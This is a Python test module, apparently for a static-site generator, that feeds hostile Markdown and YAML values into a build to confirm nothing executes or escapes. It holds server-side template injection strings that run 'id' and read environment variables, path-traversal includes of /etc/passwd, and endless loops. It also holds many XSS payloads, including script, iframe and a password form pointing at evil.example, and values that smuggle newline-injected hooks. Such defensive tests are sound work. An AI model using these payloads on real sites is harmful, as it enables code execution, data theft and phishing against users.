"""Hostile Markdown and hostile values: what would act, load, break out, or never end."""

from __future__ import annotations

from collections.abc import Callable

from tests.hostile.cases.case import Case, files, page, quoted, value
from tests.hostile.folder import NEWS, OVERRIDE, own_page
from tests.hostile.kit import Folder

EVIL = "https://evil.example"
TEMPLATES = {
    "popen": "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "kali": "{{ 1234567*3 }}",
    "kelas": r"{{ ''['\x5f\x5fclass\x5f\x5f'].mro()[1] }}",
    "siklus": "{{ cycler.__init__.__globals__.os.environ }}",
    "fakta": "{{ fakta['IUR-01'].kalimat }} {{ daerah.nama }}",
    "rangkai": "{% set x = 1234567*3 %}{{ x }}",
}
LOOPS = {
    "ulang": "{% for i in range(10**9) %}{% endfor %}",
    "kali": "{{ 'a'*(3*10**9) }}",
    "pangkat": "{{ 9**9**9**9 }}",
    "makro": "{% macro a() %}{{ a() }}{% endmacro %}{{ a() }}",
}
PROSE = (
    "Diskon 50{% khusus",
    "Gunakan {{ nama }} dan {% raw",
    "a {# b",
    "}} %} #}",
    "{{ telepn }}",
    "{% endraw %}",
    "{{{{",
)
SNIPPETS = {
    "cuplik": '--8<-- "../../../../../../etc/passwd"',
    "cuplik-blok": "--8<--\n../../kab-sehat/daerah.yml\n--8<--",
    "include": "{% include '../../kab-sehat/daerah.yml' %}",
    "import": "{% import '../../content/fakta.yml' as f %}",
    "sertakan": "!include ../../kab-sehat/daerah.yml",
}
HTML = {
    "script": "<script>alert(1)</script>",
    "script-src": f"<SCRIPT SRC={EVIL}/x.js></SCRIPT>",
    "onerror": "<img src=x onerror=alert(1)>",
    "iframe": f'<iframe src="{EVIL}/"></iframe>',
    "srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "form": f'<form action="{EVIL}/"><input name="nik"><input type=password><button>Kirim</button></form>',
    "style": f"<style>body{{display:none}}@import url({EVIL}/x.css);</style>",
    "gaya": f'<div style="position:fixed;inset:0;background:url({EVIL}/p.gif)">x</div>',
    "meta": f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    "base": f'<base href="{EVIL}/">',
    "link": f'<link rel=stylesheet href="{EVIL}/x.css"><link rel=attachment href="file:///etc/passwd">',
    "svg": "<svg onload=alert(1)><script>1</script><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "object": "<object data='data:text/html,<script>alert(1)</script>'></object><embed src=x>",
    "templat": "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x onerror=x>'>",
    "penutup": "</div></div></section></article></main></body></html><h1>TAKEOVER</h1>",
    "komentar": "<!-- tidak ditutup\n\n<script>alert(1)</script>",
    "details": "<details open ontoggle=alert(1)><summary>a</summary></details>",
    "video": "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "fokus": "<a href=# autofocus onfocus=alert(1) accesskey=x tabindex=1>x</a>",
    "attr-list": '[klik](https://a.example){: onclick="alert(1)" style="position:fixed" target="_blank" }',
    "attr-judul": '## Judul {: #isi onclick="alert(1)" }\n\nTeks. {: .merek onmouseover=alert(1) }',
    "md-html": '<div markdown="1" onclick=x>\n\n*a*\n\n<script>alert(1)</script>\n\n</div>',
    "id-ganda": "<h2 id=isi>x</h2><h2 id=isi>y</h2><a name=isi></a>",
    "dom-clobber": "<h2 id=__md_scope>x</h2><h2 id=location>y</h2><h3 id=document>z</h3>",
    "marquee": "<marquee onstart=alert(1)>a</marquee><blink>b</blink>",
    "peta": f'<iframe src="{EVIL}/embed?pb=!1m18!1m12&x=1" style="border:0;" loading="lazy"></iframe>\n\nKantor kami.',
    "word": f"<p class=MsoNormal style='background:url({EVIL}/a)'><b><span style='x:&quot;a&quot;'>Syarat</span></b>"
    "<o:p></o:p></p>",
    "sel": f'<table style="background:url({EVIL}/t)"><tr><td onclick=x>Jam buka</td>'
    f"<td>[ikut](ikut.md), {EVIL}/y</td></tr></table>",
    "cdata": "<![CDATA[<script>alert(1)</script>]]><?php echo 1 ?><!DOCTYPE x [<!ENTITY y 'z'>]>",
}
HTML_REFUSED = {"onerror": "gambar-tidak-terdaftar", "fokus": "jangkar-putus", "attr-judul": "tanda-markdown"}
"""Of these, what is refused for an address or a mark that it has; of all others the harmless rest is built."""
HTML_SHOWN = {
    "script": "<script>alert(1)</script>",
    "script-src": f"<SCRIPT SRC={EVIL}/x.js></SCRIPT>",
    "iframe": f'<iframe src="{EVIL}/"></iframe>',
    "form": f'<form action="{EVIL}/"><input name="nik">',
    "meta": f'content="0;url={EVIL}/">',
    "base": f'<base href="{EVIL}/">',
    "link": f'<link rel=stylesheet href="{EVIL}/x.css">',
    "svg": "<svg onload=alert(1)>",
    "object": "<object data='data:text/html,",
    "templat": "<template>",
    "video": "<source onerror=alert(1)>",
    "penutup": "TAKEOVER",
    "word": "<o:p>",
    "peta": "Kantor kami.",
    "sel": "Jam buka",
    "cdata": "<?php echo 1 ?>",
}
"""What a reader of the page still sees of some: nothing goes without a word."""
ACTING = ("alert(1)</script><", "<iframe")
LINKS = {
    "js": "[klik](javascript:alert(1))",
    "js-besar": "[klik](JaVaScRiPt:alert(1))",
    "js-entitas": "[klik](java&#x73;cript:alert(1))",
    "js-tab": "<a href='java\tscript:alert(1)'>b</a>",
    "js-rujukan": "[k]\n\n[k]: javascript:alert(1)",
    "data": "[k](data:text/html;base64,PHNjcmlwdD4=)",
    "vbscript": "[k](vbscript:x)",
    "file": "[k](file:///etc/passwd)",
    "http": "[k](http://evil.example/)",
    "dua-garis": "[k](//evil.example/)",
    "naik": "[k](../../kab-sehat/daerah.yml)",
    "balik-miring": "[k](\\\\evil.example\\x)",
    "blob": "[k](blob:https://evil.example/x)",
    "ftp": "[k](ftp://evil.example/)",
}
CODES = {
    **dict.fromkeys(
        ("js", "js-besar", "js-entitas", "js-tab", "data", "vbscript", "file", "blob", "ftp"), "tautan-asing"
    ),
    **dict.fromkeys(("http", "dua-garis"), "tautan-http"),
    "js-rujukan": "",
}
"""What is said of a link that is no broken one: that no site leads there, that it isn't safe, or nothing, for it stays
words."""
PICTURES = {
    "luar": f"![x]({EVIL}/track.gif)",
    "data": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "naik": "![x](../../kab-subur/gambar/sawah.png)",
    "naik-gambar": "![x](gambar/../../kab-subur/gambar/sawah.png)",
    "tiada": "![x](gambar/tiada.png)",
    "seni": "![x](seni/garis.svg)",
    "js": "![x](javascript:alert(1))",
    "html": f"<img src='{EVIL}/x.png' srcset='{EVIL}/y.png 2x'>",
}
FIELDS = {
    "alamat": ("daerah.yml", "alamat: Jalan Uji 1", "alamat: "),
    "jam": ("daerah.yml", "jam: Senin sampai Jumat", "jam: "),
    "bantuan_daerah": ("daerah.yml", "untuk: Warga yang tidak mampu", "untuk: "),
    "syarat": ("daerah.yml", "syarat: [Surat desa]", "syarat: "),
    "testimoni": ("daerah.yml", "teks: Dulu saya bingung.", "teks: "),
    "alt": ("daerah.yml", "teks: Foto balai", "teks: "),
    "alt-lambang": ("daerah.yml", "teks: Lambang uji", "teks: "),
    "baris": ("daerah.yml", "kecil: Kader datang tiap Senin.", "kecil: "),
    "penerbit": ("daerah.yml", "alamat: Jalan Penerbit 2", "alamat: "),
    "mitra": ("daerah.yml", "peran: Menjawab pertanyaan", "peran: "),
    "acara": ("jadwal.yml", "judul: Pos pendaftaran", "judul: "),
    "tempat": ("jadwal.yml", "tempat: Balai Desa Uji", "tempat: "),
    "susunan": ("jadwal.yml", "acara: [Pembukaan]", "acara: "),
    "catatan": ("jadwal.yml", "catatan: Bawa payung", "catatan: "),
    "akses": ("layanan.yml", "akses: Jalan kaki", "akses: "),
    "sumber": ("layanan.yml", "sumber: Sumber layanan", "sumber: "),
    "judul-halaman": ("halaman/posko.md", "judul: Posko", "judul: "),
    "ringkas": ("halaman/posko.md", "ringkas: Tempat bertanya.", "ringkas: "),
    "judul-kabar": ("halaman/kabar/buka.md", "judul: Posko dibuka", "judul: "),
    "ringkas-kabar": ("halaman/kabar/buka.md", "ringkas: Mulai Senin.", "ringkas: "),
}
ON_PAPER = ("baris", "alt-lambang")
"""Fields that stand on no page."""
BREAKOUT = "</title></script>\"'><script>alert(1)</script><img src=x onerror=alert(2)>"
MARKED = "[a](javascript:x) ![b](//e.example) **c** `d` {: onclick=e } | x"


def templates() -> list[Case]:
    """What a template would do; here it is text."""
    found = [
        page(f"jinja-{name}", "templat", text, present=(text[:7],), absent=("3703701", "uid=0"))
        for name, text in TEMPLATES.items()
    ]
    found += [page(f"putaran-{name}", "putaran", text, present=(text[:4],)) for name, text in LOOPS.items()]
    found += [page(f"kurawal-{index}", "kurawal", text, present=(text[-4:],)) for index, text in enumerate(PROSE)]
    found += [
        page(
            f"cuplikan-{name}",
            "cuplikan",
            text,
            "tanda-markdown" if text.startswith("--8<--") else "",
            absent=("root:x:0", "Kabupaten Sehat"),
        )
        for name, text in SNIPPETS.items()
    ]
    for name, (file, old, key) in FIELDS.items():
        text = "{{ 1234567*3 }} {% if 1 %}"
        new = f"[{quoted(text)}]" if "[" in old else quoted(text)
        shown = () if name in ON_PAPER else ("{{ 1234567*3 }} {% if 1 %}",)
        found.append(
            value(f"jinja-di-{name}", "templat", old, key + new, file=file, present=shown, absent=("3703701",))
        )
    over = OVERRIDE.replace("dibayar daerah", "{{ 1234567*3 }}")
    found.append(files("jinja-timpaan", "templat", {"timpaan/ikut/besar.md": over}, present=("{{ 1234567*3 }}",)))
    found.append(
        value("jinja-nama", "templat", "nama: Kabupaten Jahat", "nama: '{{ 7*7 }}'", "nama-tidak-sah", "daerah.yml:1")
    )
    return found


def html() -> list[Case]:
    """What a browser would run, load or follow."""
    found = [
        page(
            f"html-{name}",
            "html",
            text,
            HTML_REFUSED.get(name, ""),
            present=(HTML_SHOWN[name],) if name in HTML_SHOWN else (),
            markup=ACTING,
        )
        for name, text in HTML.items()
    ]
    found += [
        page(
            f"tautan-{name}",
            "html",
            text,
            CODES.get(name, "tautan-putus"),
            "halaman/uji.md:",
            present=("[k]: javascript:alert(1)",) if name == "js-rujukan" else (),
        )
        for name, text in LINKS.items()
    ]
    found += [
        page(f"gambar-{name}", "html", text, "gambar-tidak-terdaftar", "halaman/uji.md:7")
        for name, text in PICTURES.items()
    ]
    found.append(
        files(
            "html-timpaan",
            "html",
            {"timpaan/ikut/besar.md": OVERRIDE + "\n" + HTML["script"] + "\n\n" + HTML["penutup"]},
        )
    )
    built = {name: text for name, text in HTML.items() if name not in HTML_REFUSED}
    built["js-rujukan"] = LINKS["js-rujukan"]
    found.append(
        files(
            "html-semua",
            "html",
            {f"halaman/html-{name}.md": own_page(text) for name, text in built.items()},
            present=(*HTML_SHOWN.values(), "[k]: javascript:alert(1)"),
            markup=ACTING,
        )
    )
    found.append(files("html-kabar", "html", {"halaman/kabar/buka.md": NEWS + "\n" + HTML["svg"] + "\n"}))
    return found


def fields() -> list[Case]:
    """The same in every field that reaches a page, a head, a navigation, a sheet or a feed."""
    found = []
    for name, (file, old, key) in FIELDS.items():
        for kind, text in (("html", BREAKOUT), ("markdown", MARKED)):
            new = f"[{quoted(text)}]" if "[" in old else quoted(text)
            found.append(
                value(
                    f"isian-{name}-{kind}", "isian", old, key + new, file=file, markup=(BREAKOUT, "onerror=alert(2)>")
                )
            )
    found += [
        Case(f"isian-semua-{kind}", "isian", _in_all_fields(text), markup=(BREAKOUT, "onerror=alert(2)>"))
        for kind, text in (("html", BREAKOUT), ("markdown", MARKED))
    ]
    names = {
        "nama": "nama: Kabupaten Jahat",
        "nama-pendek": "nama_pendek: Jahat",
        "provinsi": "provinsi: Provinsi Jahat",
    }
    for name, old in names.items():
        key = old.split(":")[0]
        found.append(
            value(f"isian-{name}", "isian", old, f"{key}: {quoted(BREAKOUT)}", "nama-tidak-sah", "daerah.yml:")
        )
        found.append(
            value(
                f"baris-{name}", "baris-baru", old, f'{key}: "a\\nhooks:\\n  - x.py"', "nama-tidak-sah", "daerah.yml:"
            )
        )
    for key in ("judul", "ringkas"):
        old = {"judul": "judul: Posko", "ringkas": "ringkas: Tempat bertanya."}[key]
        found.append(
            value(
                f"baris-{key}",
                "baris-baru",
                old,
                f'{key}: "a\\n\\n# b\\nhooks: [x.py]\\n---\\n"',
                file="halaman/posko.md",
            )
        )
    return found


def _in_all_fields(text: str) -> Callable[[Folder], None]:
    """The same text in every field at once."""

    def spoil(folder: Folder) -> None:
        for file, old, key in FIELDS.values():
            folder.swap(file, old, key + (f"[{quoted(text)}]" if "[" in old else quoted(text)))

    return spoil


CASES = [*templates(), *html(), *fields()]
